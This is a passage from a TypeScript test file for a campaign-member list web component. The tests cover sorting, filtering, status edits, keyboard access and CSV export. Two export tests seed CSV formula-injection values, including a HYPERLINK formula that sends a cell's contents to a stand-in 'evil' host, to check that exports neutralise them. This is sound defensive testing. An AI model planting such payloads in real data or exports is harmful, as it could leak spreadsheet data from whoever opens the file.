import { expect, fixture, html, oneEvent, waitUntil } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import '../../src/define/campaign-member-list.js';
import '../../src/define/lead-kit.js';
import type { CampaignMemberList } from '../../src/components/campaign-member-list/campaign-member-list.js';
import type { CampaignMemberImport } from '../../src/components/campaign-member-list/campaign-member-import.js';
import type { DataAdapter } from '../../src/adapters/adapter.js';
import { UnavailableError } from '../../src/adapters/errors.js';
import { LocalAdapter, MemoryStore } from '../../src/adapters/local/index.js';
import { parseCsv } from '../../src/domain/csv.js';
import { RestAdapter } from '../../src/adapters/rest/index.js';
import { runsAsFormula, spreadsheetRead } from '../helpers/spreadsheet.js';
import { TEST_SERVER, testKey } from '../helpers/server.js';
import type { LeadFieldsInput } from '../../src/model/person.js';
import type { LeadKit } from '../../src/context/lead-kit.js';
import { idbFixture } from '../helpers/idb.js';
import { byLabel, renderWithAdapter, textOf } from '../helpers/render.js';

const people = (n: number, prefix = 'p'): LeadFieldsInput[] =>
  Array.from({ length: n }, (_, i) => ({
    firstName: `F${String(i).padStart(4, '0')}`,
    lastName: ['Đặng', 'Ștefan', 'adams', 'Zhou', 'Ólafsson', 'Brown'][i % 6],
    email: `${prefix}${i}@example.com`,
    company: `Co ${i % 7}`,
  }));

async function seed(adapter: DataAdapter, n: number, type: 'event' | 'email' = 'event') {
  await adapter.saveCampaign({ id: 'E', name: 'Summit', type });
  await adapter.importLeads({ campaignId: 'E', status: type === 'event' ? 'Registered' : undefined }, people(n));
}

const root = (el: Element) => el.shadowRoot!;
const grid = (el: Element) => root(el).querySelector<HTMLElement>('[role=grid]')!;
/** Rendered, loaded data rows in order: the text of each cell. */
function rows(el: Element): string[][] {
  return [...root(el).querySelectorAll<HTMLElement>('.body [role=row]:not(.placeholder)')]
    .sort((a, b) => Number(a.getAttribute('aria-rowindex')) - Number(b.getAttribute('aria-rowindex')))
    .map((r) => [...r.querySelectorAll('[role=gridcell], [role=rowheader]')].slice(1).map((c) => (c.querySelector('select')?.value ?? c.textContent!).replace(/\s+/g, ' ').trim()));
}
/** The status cell of the `n`th row. */
const statusCell = (el: Element, n = 1) => root(el).querySelector<HTMLElement>(`[aria-rowindex="${n + 1}"] .cell.status`)!;
/** The status a row shows: its select's value while edited, else its button's text. */
const statusText = (el: Element, n = 1) => statusCell(el, n).querySelector('select')?.value ?? statusCell(el, n).textContent!.trim();
/** Clicks the `n`th row's status (a button) and answers the select it became. */
async function statusEditor(el: CampaignMemberList, n = 1): Promise<HTMLSelectElement> {
  statusCell(el, n).querySelector('button')!.click();
  await el.updateComplete;
  return statusCell(el, n).querySelector('select')!;
}
const rowCount = (el: Element) => root(el).querySelectorAll('.body [role=row]:not(.placeholder)').length;
const ready = (el: Element) => waitUntil(() => rowCount(el) > 0 || root(el).querySelector('.empty-state, .no-match'), 'rows shown', { timeout: 5000 });
const button = (el: Element, text: string) => {
  const b = [...root(el).querySelectorAll('button')].find((x) => x.textContent!.replace(/\s+/g, ' ').trim().startsWith(text));
  if (!b) throw new Error(`no button "${text}"`);
  return b;
};
const key = (el: Element, k: string, extra: KeyboardEventInit = {}) =>
  grid(el).dispatchEvent(new KeyboardEvent('keydown', { key: k, bubbles: true, composed: true, ...extra }));
const checkbox = (el: Element, row: number) => root(el).querySelector<HTMLInputElement>(`[aria-rowindex="${row + 2}"] input[type=checkbox]`)!;

// A wide page: the list shows every column (it picks them by its own width; see the narrow tests).
before(() => {
  document.body.style.width = '1400px';
});

describe('<campaign-member-list>', () => {
  it('shows rows with every column and counts per status, rendering only the visible rows of 1,000', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 1000));
    await ready(el);
    const headers = [...root(el).querySelectorAll('[role=columnheader]')].map((h) => h.textContent!.trim()).slice(1);
    expect(headers).to.deep.equal(['Name▲', 'Type', 'Company', 'Email', 'Status', 'Responded', 'First responded', 'Added']);
    expect(rows(el)[0].slice(0, 6)).to.deep.equal(['F0002 adams', 'Lead', 'Co 2', 'p2@example.com', 'Registered', 'No']);
    expect(grid(el).getAttribute('aria-rowcount')).to.equal('1001');
    expect(rowCount(el)).to.be.below(40);
    const chips = [...root(el).querySelectorAll('.chip')].map((c) => [...c.children].map((s) => s.textContent!.trim()).join(' '));
    expect(chips).to.deep.equal(['All 1,000', 'Invited 0', 'Registered 1,000', 'Attended 0', 'No-show 0']);
    await expect(el).to.be.accessible();
  });

  it('a double opt-in campaign says who is pending confirmation (not a response) and who responded', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(
      html`<campaign-member-list campaign="N" columns="name,email,status,responded"></campaign-member-list>`,
      async (a) => {
        await a.saveCampaign({ id: 'N', name: 'News', type: 'email', doubleOptIn: true });
        await a.submitLead({ submissionId: 'optin-0001', campaignId: 'N', lead: { email: 'wait@example.com', lastName: 'Waiting' } });
        const done = await a.submitLead({ submissionId: 'optin-0002', campaignId: 'N', lead: { email: 'done@example.com', lastName: 'Done' } });
        await (a as LocalAdapter).confirmOptIn(done.memberId);
      },
      { doubleOptIn: true },
    );
    await ready(el);
    const table = rows(el).map((r) => r.join('|'));
    expect(table.find((r) => r.includes('wait@example.com'))).to.include('Pending confirmation');
    expect(table.find((r) => r.includes('done@example.com'))).to.include('Yes');
    expect((await adapter.countMembers('N')).responded).to.equal(1);
    await expect(el).to.be.accessible();
  });

  it('jumps to the middle of the list when scrolled there and shows the right rows', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 1000));
    await ready(el);
    const reads: unknown[] = [];
    const pageMembers = adapter.pageMembers.bind(adapter);
    adapter.pageMembers = (q, o) => (reads.push(q), pageMembers(q, o));
    grid(el).scrollTop = 500 * 44;
    grid(el).dispatchEvent(new Event('scroll'));
    await waitUntil(() => root(el).querySelector('[aria-rowindex="512"]:not(.placeholder)'), 'middle rows loaded');
    // The rows in view span two blocks of 100: one read walks the offset for both.
    expect(reads).to.have.length(1);
    expect(root(el).querySelectorAll('.body [role=row].placeholder')).to.have.length(0);
    const expected = (await adapter.pageMembers({ campaignId: 'E', offset: 510, limit: 1 })).items[0];
    const row = root(el).querySelector('[aria-rowindex="512"]')!;
    expect(row.textContent).to.contain(expected.person.email);
    expect(root(el).querySelectorAll('.body [role=row]').length).to.be.below(40);
  });

  it('sorts by a clicked column, toggles direction, and says so with aria-sort', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 30));
    await ready(el);
    const companyHeader = () => [...root(el).querySelectorAll('[role=columnheader]')].find((h) => h.textContent!.includes('Company'))!;
    companyHeader().querySelector('button')!.click();
    await waitUntil(() => rows(el)[0]?.[2] === 'Co 0');
    expect(companyHeader().getAttribute('aria-sort')).to.equal('ascending');
    companyHeader().querySelector('button')!.click();
    await waitUntil(() => rows(el)[0]?.[2] === 'Co 6');
    expect(companyHeader().getAttribute('aria-sort')).to.equal('descending');
    expect(el.sort).to.equal('company');
    el.sort = 'type';
    el.direction = 'asc';
    await waitUntil(() => [...root(el).querySelectorAll('[role=columnheader]')].find((h) => h.textContent!.includes('Type'))!.getAttribute('aria-sort') === 'ascending');
  });

  it('filters by status (the counts), by type, and searches accent-insensitively; an empty result offers to clear', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 60));
    await ready(el);
    const first = (await adapter.pageMembers({ campaignId: 'E', limit: 3 })).items;
    await adapter.setMemberStatus({ campaignId: 'E', members: first.map((m) => ({ id: m.id, version: m.version })), status: 'Attended' });
    const chip = (label: string) => [...root(el).querySelectorAll('.chip')].find((c) => c.textContent!.trim().startsWith(label))!.querySelector('.n')!.textContent;
    await waitUntil(() => chip('Attended') === '3');
    button(el, 'Attended').click();
    await waitUntil(() => rowCount(el) === 3 && rows(el).every((r) => r[4] === 'Attended'));
    expect(button(el, 'Attended').getAttribute('aria-pressed')).to.equal('true');
    button(el, 'All').click();
    await waitUntil(() => rowCount(el) > 3);
    const search = byLabel(el, 'Search members');
    search.value = 'STEFAN';
    search.dispatchEvent(new Event('input'));
    await waitUntil(() => rowCount(el) === 10 && rows(el).every((r) => r[0].endsWith('Ștefan')), 'search results');
    await waitUntil(() => textOf(el).includes('Matching: 10'));
    const type = byLabel<HTMLSelectElement>(el, 'Type');
    type.value = 'contact';
    type.dispatchEvent(new Event('change'));
    await waitUntil(() => root(el).querySelector('.no-match'));
    expect(textOf(el)).to.include('No members match these filters.');
    await expect(el).to.be.accessible();
    button(el, 'Clear filters').click();
    await waitUntil(() => rowCount(el) > 10);
    expect(el.filterType).to.equal('');
    expect(search.value).to.equal('');
  });

  it('changes one status inline; the cancelable intent can stop it', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 5));
    await ready(el);
    // A button until activated (cheap for every row), named with its value.
    expect(statusCell(el).querySelector('button')!.getAttribute('aria-label')).to.equal('Status of F0002 adams: Registered');
    expect(root(el).querySelector('.body select'), 'no select before one is activated').to.equal(null);
    const editor = await statusEditor(el);
    expect(root(el).querySelector('.body select'), 'the clicked one').to.equal(editor);
    expect(root(el).activeElement, 'focused').to.equal(editor);
    const select = () => statusCell(el).querySelector('select')!;
    expect(select().getAttribute('aria-label')).to.equal('Status of F0002 adams');
    let writes = 0;
    const setMemberStatus = adapter.setMemberStatus.bind(adapter);
    adapter.setMemberStatus = (input, o) => (writes++, setMemberStatus(input, o));
    const stop = (e: Event) => e.preventDefault();
    el.addEventListener('member-status-change', stop, { once: true });
    select().value = 'Attended';
    select().dispatchEvent(new Event('change'));
    await waitUntil(() => select().value === 'Registered', 'the select goes back');
    expect((await adapter.countMembers('E')).byStatus.Attended).to.equal(undefined);
    const changed = oneEvent(el, 'member-status-changed');
    select().value = 'Attended';
    select().dispatchEvent(new Event('change'));
    const { detail } = await changed;
    expect(detail.members).to.have.length(1);
    expect(writes).to.equal(1); // the cancelled intent never reached the adapter
    expect((await adapter.countMembers('E')).byStatus.Attended).to.equal(1);
    await waitUntil(() => root(el).querySelector('.chip:nth-child(4) .n')!.textContent === '1');
    expect(root(el).querySelector('[role=status].announce')!.textContent).to.contain('Status set to Attended: 1');
  });

  it('commits a status stepped to with the keyboard only on Enter (or leaving the cell); Escape restores it; one write and one event', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 5));
    await ready(el);
    const select = () => root(el).querySelector<HTMLSelectElement>('[aria-rowindex="2"] select')!;
    let writes = 0;
    const setMemberStatus = adapter.setMemberStatus.bind(adapter);
    adapter.setMemberStatus = (input, o) => (writes++, setMemberStatus(input, o));
    let events = 0;
    el.addEventListener('member-status-changed', () => events++);
    (await statusEditor(el)).focus();
    await sendKeys({ press: 'ArrowDown' });
    await sendKeys({ press: 'ArrowDown' });
    await sendKeys({ press: 'ArrowDown' });
    expect(select().value).not.to.equal('Registered', 'the keys moved through the options');
    await sendKeys({ press: 'Escape' });
    await new Promise((r) => setTimeout(r, 200));
    // Escape puts the saved value back and the button in place of the select.
    expect({ writes, events, value: statusText(el), select: !!select() }).to.deep.equal({ writes: 0, events: 0, value: 'Registered', select: false });
    (await statusEditor(el)).focus();
    await sendKeys({ press: 'ArrowDown' });
    const changed = oneEvent(el, 'member-status-changed');
    await sendKeys({ press: 'Enter' });
    await changed;
    await new Promise((r) => setTimeout(r, 200));
    expect({ writes, events }).to.deep.equal({ writes: 1, events: 1 });
    expect((await adapter.countMembers('E')).byStatus.Attended).to.equal(1);
  });

  it("updates a person's row on campaign B when a submission on campaign A fills their name", async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="B" columns="name,email"></campaign-member-list>`, async (a) => {
      await a.saveCampaign({ id: 'A', name: 'A' });
      await a.saveCampaign({ id: 'B', name: 'B' });
      await a.submitLead({ submissionId: 'copy-on-b-01', campaignId: 'B', lead: { email: 'nameless@example.com' } });
    });
    await ready(el);
    expect(root(el).querySelector('.body')!.textContent).not.to.include('Ioana');
    // The submission writes campaign A; the copy of the person on B is refreshed with it.
    await adapter.submitLead({ submissionId: 'copy-on-a-01', campaignId: 'A', lead: { email: 'NAMELESS@example.com', firstName: 'Ioana', lastName: 'Pop' } });
    await waitUntil(() => root(el).querySelector('.body')!.textContent!.includes('Ioana'), "B's list shows the new name", { timeout: 3000 });
  });

  it('reports a concurrent change instead of overwriting it', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 5));
    await ready(el);
    const [member] = (await adapter.pageMembers({ campaignId: 'E', limit: 1 })).items;
    // Someone else's change lands between the moment the list read the row and its write.
    el.addEventListener('member-status-change', () => void adapter.setMemberStatus({ campaignId: 'E', members: [{ id: member.id, version: member.version }], status: 'No-show' }), { once: true });
    const failed = oneEvent(el, 'member-action-error');
    const select = await statusEditor(el);
    select.value = 'Attended';
    select.dispatchEvent(new Event('change'));
    await failed;
    await waitUntil(() => root(el).querySelector('.problem[role=alert]'));
    expect(textOf(el)).to.include('Someone else changed these members in the meantime');
    const [after] = (await adapter.pageMembers({ campaignId: 'E', limit: 1 })).items;
    expect(after.status).to.equal('No-show');
    await waitUntil(() => statusText(el) === 'No-show', 'row shows the winning change');
  });

  it('sets a status on selected rows, and on all matching the filter except the unticked', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 150));
    await ready(el);
    checkbox(el, 0).click();
    checkbox(el, 2).click();
    await el.updateComplete;
    expect(textOf(el)).to.include('Selected: 2');
    expect(root(el).querySelector('[aria-rowindex="2"]')!.getAttribute('aria-selected')).to.equal('true');
    const status = root(el).querySelector<HTMLSelectElement>('.bulk select')!;
    status.value = 'Attended';
    status.dispatchEvent(new Event('change'));
    await el.updateComplete;
    button(el, 'Apply').click();
    await waitUntil(async () => (await adapter.countMembers('E')).byStatus.Attended === 2);
    // All matching "Registered" (148), minus one unticked.
    button(el, 'Clear selection').click();
    button(el, 'Registered').click();
    await waitUntil(() => rowCount(el) > 0 && rows(el).every((r) => r[4] === 'Registered'));
    root(el).querySelector<HTMLInputElement>('[role=columnheader] input[type=checkbox]')!.click();
    await el.updateComplete;
    checkbox(el, 0).click();
    await el.updateComplete;
    expect(textOf(el)).to.include('Selected: 147');
    const keptId = (await adapter.pageMembers({ campaignId: 'E', status: 'Registered', limit: 1 })).items[0].id;
    const bulk = root(el).querySelector<HTMLSelectElement>('.bulk select')!;
    bulk.value = 'No-show';
    bulk.dispatchEvent(new Event('change'));
    await el.updateComplete;
    button(el, 'Apply').click();
    await waitUntil(async () => (await adapter.countMembers('E')).byStatus['No-show'] === 147, 'all matching updated', { timeout: 5000 });
    const counts = await adapter.countMembers('E');
    expect(counts.byStatus).to.deep.equal({ Attended: 2, Registered: 1, 'No-show': 147 });
    expect((await adapter.pageMembers({ campaignId: 'E', status: 'Registered' })).items.map((m) => m.id)).to.deep.equal([keptId]);
  });

  it('removes selected members after confirmation, keeping the people', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 10));
    await ready(el);
    checkbox(el, 0).click();
    checkbox(el, 1).click();
    await el.updateComplete;
    button(el, 'Remove from campaign').click();
    await el.updateComplete;
    expect(root(el).querySelector('[role=alertdialog]')!.textContent).to.contain('Remove 2 members from the campaign?');
    await expect(el).to.be.accessible();
    const removed = oneEvent(el, 'members-removed');
    root(el).querySelector<HTMLButtonElement>('[role=alertdialog] button.danger')!.click();
    expect((await removed).detail.count).to.equal(2);
    expect((await adapter.countMembers('E')).total).to.equal(8);
    expect(await adapter.findPersonByEmail('p2@example.com')).to.not.equal(null);
    await waitUntil(() => textOf(el).includes('Members: 8'));
  });

  it('adds existing leads and contacts found by search, with the chosen status', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, async (a) => {
      await seed(a, 3);
      await a.createLead({ firstName: 'Олена', lastName: 'Шевченко', email: 'olena@example.ua', company: 'Світанок' });
    });
    await ready(el);
    button(el, 'Add members').click();
    await el.updateComplete;
    expect(root(el).querySelector<HTMLDialogElement>('dialog.add')!.open).to.equal(true);
    const add = root(el).querySelector('campaign-member-add')!;
    await add.updateComplete;
    expect(add.shadowRoot!.activeElement, 'focus in the search field').to.equal(byLabel(add, 'Find leads and contacts'));
    const search = byLabel(add, 'Find leads and contacts');
    search.value = 'шевченко';
    search.dispatchEvent(new Event('input'));
    await waitUntil(() => add.shadowRoot!.querySelector('.add-results li'), 'search results');
    add.shadowRoot!.querySelector<HTMLInputElement>('.add-results input')!.click();
    const status = byLabel<HTMLSelectElement>(add, 'Status of the added members');
    status.value = 'Invited';
    status.dispatchEvent(new Event('change'));
    await add.updateComplete;
    await expect(el).to.be.accessible();
    await expect(add).to.be.accessible();
    const added = oneEvent(el, 'members-added');
    [...add.shadowRoot!.querySelectorAll('button')].find((b) => b.textContent!.trim() === 'Add selected (1)')!.click();
    const { detail } = await added;
    expect(detail.members[0]).to.include({ status: 'Invited' });
    expect((await adapter.countMembers('E')).byStatus.Invited).to.equal(1);
    expect(root(el).querySelector<HTMLDialogElement>('dialog.add')!.open, 'the dialog closes').to.equal(false);
    await waitUntil(() => rows(el).some((r) => r[0] === 'Олена Шевченко'));
  });

  it('shows a lead captured by another widget at once, keeping scroll position and selection', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 300));
    await ready(el);
    grid(el).scrollTop = 100 * 44;
    grid(el).dispatchEvent(new Event('scroll'));
    await waitUntil(() => root(el).querySelector('[aria-rowindex="105"]:not(.placeholder)'));
    checkbox(el, 104).click();
    await el.updateComplete;
    const chosen = rows(el).find((r) => r.length)![0] && root(el).querySelector('[aria-rowindex="106"]')!.textContent!.match(/p\d+@example\.com/)![0];
    await adapter.submitLead({ submissionId: 'live-submission-1', campaignId: 'E', lead: { firstName: 'Aaron', lastName: 'Aardvark', email: 'aaron@example.com' } });
    await waitUntil(() => textOf(el).includes('Members: 301'), 'count updated');
    expect(grid(el).scrollTop).to.equal(100 * 44);
    // The selection follows the member, who moved one row down (Aaron sorts first).
    await waitUntil(() => root(el).querySelector('[aria-rowindex="107"]')?.textContent!.includes(chosen));
    expect(checkbox(el, 105).checked).to.equal(true);
    expect(checkbox(el, 104).checked).to.equal(false);
    expect(textOf(el)).to.include('Selected: 1');
    grid(el).scrollTop = 0;
    grid(el).dispatchEvent(new Event('scroll'));
    await waitUntil(() => rows(el)[0]?.[0] === 'Aaron Aardvark', 'new row first by name');
  });

  it('follows changes made in another tab (IndexedDB)', async () => {
    const fx = idbFixture();
    try {
      await seed(fx.adapter, 20);
      const kit = await fixture<LeadKit>(html`<lead-kit .adapter=${fx.adapter}><campaign-member-list campaign="E"></campaign-member-list></lead-kit>`);
      const el = kit.querySelector<CampaignMemberList>('campaign-member-list')!;
      await ready(el);
      await fx.peer().submitLead({ submissionId: 'other-tab-0001', campaignId: 'E', lead: { firstName: 'Ab', lastName: 'Aaa', email: 'tab@example.com' } });
      await waitUntil(() => rows(el)[0]?.[0] === 'Ab Aaa', 'row from the other tab', { timeout: 5000 });
    } finally {
      await fx.cleanup();
    }
  });

  it('is operable by keyboard: arrows move the active cell, Space selects, Enter sorts, Ctrl+End reaches the last row', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 400));
    await ready(el);
    grid(el).focus();
    expect(grid(el).getAttribute('aria-activedescendant')).to.equal('h-1');
    key(el, 'Enter'); // header "Name": toggles to descending
    await waitUntil(() => el.direction === 'desc');
    await el.updateComplete;
    key(el, 'ArrowDown');
    key(el, 'ArrowDown');
    await el.updateComplete;
    expect(grid(el).getAttribute('aria-activedescendant')).to.equal('c-1-1');
    expect(root(el).getElementById('c-1-1')).to.exist;
    key(el, ' ');
    await el.updateComplete;
    expect(root(el).querySelector('[aria-rowindex="3"]')!.getAttribute('aria-selected')).to.equal('true');
    key(el, 'ArrowRight');
    key(el, 'ArrowRight');
    key(el, 'ArrowRight');
    key(el, 'ArrowRight');
    await el.updateComplete;
    key(el, 'Enter'); // status cell: the editor takes focus
    await el.updateComplete;
    expect(root(el).activeElement?.tagName).to.equal('SELECT');
    root(el).activeElement!.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
    expect(root(el).activeElement).to.equal(grid(el));
    key(el, 'End', { ctrlKey: true });
    await waitUntil(() => root(el).querySelector('[aria-rowindex="401"]:not(.placeholder)'), 'last row shown');
    expect(grid(el).getAttribute('aria-activedescendant')).to.equal('c-399-8');
    key(el, 'Escape');
    await el.updateComplete;
    expect(textOf(el)).to.not.include('Selected:');
    key(el, 'a', { ctrlKey: true });
    await el.updateComplete;
    expect(textOf(el)).to.include('Selected: 400');
  });

  it('compact related-list mode: first rows, the total and "View all"', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(
      html`<campaign-member-list campaign="E" compact rows="3" columns="name,status" view-all-href="#members"></campaign-member-list>`,
      (a) => seed(a, 12),
    );
    await waitUntil(() => root(el).querySelectorAll('tbody tr').length === 3, 'three rows');
    expect(textOf(el)).to.include('(12)');
    expect([...root(el).querySelectorAll('thead th')].map((t) => t.textContent!.trim())).to.deep.equal(['Name', 'Status']);
    await expect(el).to.be.accessible();
    const link = root(el).querySelector<HTMLAnchorElement>('a.view-all')!;
    expect(link.getAttribute('href')).to.equal('#members');
    el.addEventListener('members-view-all', (e) => e.preventDefault(), { once: true });
    const viewAll = oneEvent(el, 'members-view-all');
    link.click();
    expect((await viewAll).detail.campaignId).to.equal('E');
    expect(location.hash).to.not.equal('#members');
    // Lightning's pattern: "View all" is the footer, under the rows.
    expect(link.closest('footer')).to.not.equal(null);
    expect(link.getBoundingClientRect().top).to.be.greaterThan(root(el).querySelector('tbody tr:last-child')!.getBoundingClientRect().bottom - 1);
  });

  it('record-href links every name to its record ({id}, {type}, {memberId}); member-open is cancelable; Enter on a name follows it', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(
      html`<campaign-member-list campaign="E" columns="name,status" record-href="/crm/{type}/{id}?m={memberId}"></campaign-member-list>`,
      (a) => seed(a, 5),
    );
    await ready(el);
    const links = [...root(el).querySelectorAll<HTMLAnchorElement>('.body a.record')];
    expect(links.length).to.equal(5);
    const [first] = (await el['adapters'].adapter.pageMembers({ campaignId: 'E', sort: 'name', limit: 1 })).items;
    expect(links[0].getAttribute('href')).to.equal(`/crm/lead/${encodeURIComponent(first.leadId!)}?m=${encodeURIComponent(first.id)}`);
    expect(links[0].tabIndex).to.equal(-1); // the grid is one tab stop
    const opened: { id: string; href: string }[] = [];
    el.addEventListener('member-open', (e) => {
      e.preventDefault(); // a single-page app routes it (and the test page stays)
      opened.push({ id: e.detail.member.id, href: e.detail.href });
    });
    links[0].click();
    expect(opened).to.deep.equal([{ id: first.id, href: links[0].getAttribute('href')! }]);
    // Keyboard: the grid's active cell on a name, Enter follows the link.
    grid(el).focus();
    key(el, 'ArrowDown'); // the first row's name (the column after the selection box)
    await el.updateComplete;
    key(el, 'Enter');
    expect(opened.length).to.equal(2);
    // The compact related list links names too, and there they are in the tab order.
    const compact = await renderWithAdapter<CampaignMemberList>(
      html`<campaign-member-list campaign="E" compact rows="2" columns="name,status" record-href="/crm/{type}/{id}"></campaign-member-list>`,
      (a) => seed(a, 3),
    );
    await waitUntil(() => root(compact.el).querySelectorAll('tbody a.record').length === 2, 'compact links');
    expect(root(compact.el).querySelector<HTMLAnchorElement>('tbody a.record')!.tabIndex).to.equal(0);
    await expect(compact.el).to.be.accessible();
  });

  it('has designed loading, empty, error (with retry) states', async () => {
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    let fail = true;
    class SlowFlaky extends LocalAdapter {
      override async pageMembers(query: Parameters<LocalAdapter['pageMembers']>[0]) {
        await gate;
        if (fail) {
          fail = false;
          throw new UnavailableError('offline');
        }
        return super.pageMembers(query);
      }
    }
    const adapter = new SlowFlaky(new MemoryStore());
    await adapter.saveCampaign({ id: 'Z', name: 'Empty' });
    const kit = await fixture<LeadKit>(html`<lead-kit .adapter=${adapter}><campaign-member-list campaign="Z"></campaign-member-list></lead-kit>`);
    const el = kit.querySelector<CampaignMemberList>('campaign-member-list')!;
    await el.updateComplete;
    expect(textOf(el)).to.include('Loading…');
    await expect(el).to.be.accessible();
    release();
    await waitUntil(() => root(el).querySelector('[role=alert]'), 'error shown');
    expect(textOf(el)).to.include('The data cannot be reached right now');
    await expect(el).to.be.accessible();
    button(el, 'Try again').click();
    await waitUntil(() => root(el).querySelector('.empty-state'), 'empty state');
    expect(textOf(el)).to.include('No one is on this campaign yet.');
    expect(button(el, 'Add members')).to.exist;
    expect(button(el, 'Import CSV')).to.exist;
    await expect(el).to.be.accessible();
  });

  it('exports the current filter as CSV with a BOM, formula cells neutralized', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" columns="name,company,email,status"></campaign-member-list>`, async (a) => {
      await seed(a, 4);
      await a.submitLead({ submissionId: 'formula-0001', campaignId: 'E', lead: { firstName: 'Олена', lastName: 'Lê', email: 'x@example.com', company: '=HYPERLINK("http://evil")' }, status: 'Attended' });
    });
    await ready(el);
    el.filterStatus = 'Attended';
    await waitUntil(() => rowCount(el) === 1);
    const exported = oneEvent(el, 'members-export');
    el.addEventListener('members-export', (e) => e.preventDefault(), { once: true });
    button(el, 'Export CSV').click();
    const { detail } = await exported;
    expect(detail.count).to.equal(1);
    expect(detail.csv.startsWith('\ufeff')).to.equal(true);
    expect(detail.csv).to.contain('\r\n');
    expect(parseCsv(detail.csv)).to.deep.equal([
      ['First name', 'Last name', 'Company', 'Email', 'Status'],
      ['Олена', 'Lê', `'=HYPERLINK("http://evil")`, 'x@example.com', 'Attended'],
    ]);
  });

  it("exports people imported through the server so that no spreadsheet runs their names, whatever its separator (';' in French, Ukrainian, Russian, Romanian)", async () => {
    const { key } = await testKey();
    const adapter = new RestAdapter({ baseUrl: TEST_SERVER, key, outbox: false });
    await adapter.saveCampaign({ id: 'CSV', name: 'Hostile names' });
    const hostile = ['x;=HYPERLINK("http://evil.example/?"&A1,"click")', '\n=1+1', 'a\t@SUM(1)', 'Ana, -2+3', '"; =cmd'];
    const r = await adapter.importLeads({ campaignId: 'CSV' }, hostile.map((lastName, i) => ({ firstName: `P${i}`, lastName, email: `hostile${i}@example.com` })));
    expect(r.created).to.equal(hostile.length);
    const kit = await fixture(html`<lead-kit .adapter=${adapter}><campaign-member-list campaign="CSV" columns="name,email"></campaign-member-list></lead-kit>`);
    const el = kit.firstElementChild as CampaignMemberList;
    await ready(el);
    await waitUntil(() => rowCount(el) === hostile.length, 'the imported people are listed', { timeout: 5000 });
    const exported = oneEvent(el, 'members-export');
    el.addEventListener('members-export', (e) => e.preventDefault(), { once: true });
    button(el, 'Export CSV').click();
    const { detail } = await exported;
    for (const separator of [',', ';', '\t']) {
      const cells = spreadsheetRead(detail.csv.slice(1), separator).flat();
      expect(cells.filter(runsAsFormula), `read with ${JSON.stringify(separator)}`).to.deep.equal([]);
    }
    // Read with its own separator, each name is there (as text).
    const names = parseCsv(detail.csv).slice(1).map((row) => row[1]);
    for (const name of hostile) expect(names.some((n) => n.replace(/'/g, '').replace(/\r\n/g, '\n') === name.replace(/'/g, '').trim())).to.equal(true, name);
  });

  it('lets the user hide and reorder columns', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" columns="email,name,status"></campaign-member-list>`, (a) => seed(a, 3));
    await ready(el);
    expect(rows(el)[0]).to.deep.equal(['p2@example.com', 'F0002 adams', 'Registered']);
    button(el, 'Columns').click();
    await el.updateComplete;
    const changed = oneEvent(el, 'member-columns-change');
    root(el).querySelector<HTMLButtonElement>('[aria-label="Move Name up"]')!.click();
    expect((await changed).detail.columns).to.deep.equal(['name', 'email', 'status']);
    await el.updateComplete;
    expect(rows(el)[0]).to.deep.equal(['F0002 adams', 'p2@example.com', 'Registered']);
    const email = [...root(el).querySelectorAll('.columns-picker label')].find((l) => l.textContent!.includes('Email'))!.querySelector('input')!;
    email.click();
    await el.updateComplete;
    expect(el.columns).to.equal('name,status');
    await expect(el).to.be.accessible();
  });

  describe("the people's fields as columns and filters", () => {
    /** Six leads of every rating and source on campaign E, one with a custom field. */
    async function classified(a: DataAdapter) {
      await a.saveCampaign({ id: 'E', name: 'Summit', type: 'event' });
      const rows: LeadFieldsInput[] = [
        { firstName: 'Ana', lastName: 'Popescu', email: 'ana@example.ro', country: 'Romania', source: 'event', rating: 'hot', custom: { tier: 'gold' } },
        { firstName: 'Bảo', lastName: 'Nguyễn', email: 'bao@example.vn', country: 'Vietnam', source: 'event', rating: 'warm' },
        { firstName: 'Chloé', lastName: 'Martin', email: 'chloe@example.fr', country: 'France', source: 'web', rating: 'hot', title: 'CTO' },
        { firstName: 'Emil', lastName: 'Ionescu', email: 'emil@example.ro', country: 'romania', source: 'phone', rating: 'cold' },
        { firstName: 'Fara', lastName: 'Ali', email: 'fara@example.com', source: 'web' },
      ];
      await a.importLeads({ campaignId: 'E', status: 'Registered' }, rows);
    }

    it('shows rating, source, lead status and custom fields as columns (read with each page, not sortable: it says so), offered by the column picker', async () => {
